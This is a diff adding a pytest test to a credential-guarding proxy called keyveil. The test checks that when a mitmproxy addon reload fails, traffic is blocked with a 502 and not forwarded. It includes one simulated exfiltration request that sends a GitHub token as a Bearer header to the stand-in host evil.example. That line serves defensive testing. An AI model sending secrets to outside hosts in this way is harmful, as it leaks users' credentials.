@@ -132,3 +132,23 @@ def test_unreadable_vault_stops_mitmdump_with_exit_2(setup, upstream, tmp_path):
     assert "vault" in p.output()
     r = keyveil(setup.env, "start", "--listen", f"127.0.0.1:{free_port()}")
     assert r.returncode == 2 and b"vault" in r.stderr
+
+
+def test_failed_hot_reload_blocks_instead_of_forwarding(setup, upstream, tmp_path):
+    """mitmproxy unloads a script whose reload fails and forwards everything; keyveil must not."""
+    script = tmp_path / "keyveil_entry.py"
+    script.write_text(infra.KEYVEIL_ADDON.read_text().replace('os.path.dirname(_here), "src"', repr(str(infra.REPO / "src"))))
+    upstream.reset()
+    pat = setup.values["github/pat"]
+    with infra.routed_proxy(upstream, tmp_path / "w", scripts=[script], options={"keyveil_home": setup.home}, env=setup.env) as p:
+        verify = infra.client_ssl_context(p.ca_cert)
+        with httpx.Client(proxy=p.url, verify=verify, trust_env=False) as c:
+            assert c.get("https://api.github.com/echo").status_code == 200
+            script.write_text("this is not python(\n")
+            deadline = time.monotonic() + 15
+            while "unloaded" not in p.output() and time.monotonic() < deadline:
+                time.sleep(0.2)
+            r = c.get("https://evil.example/echo", headers={"authorization": "Bearer " + pat.decode()})
+        assert r.status_code == 502 and r.headers["x-keyveil-block"] == "internal_error"
+    assert [rec.host for rec in upstream.requests] == ["api.github.com"]
+    assert pat not in upstream.all_bytes()
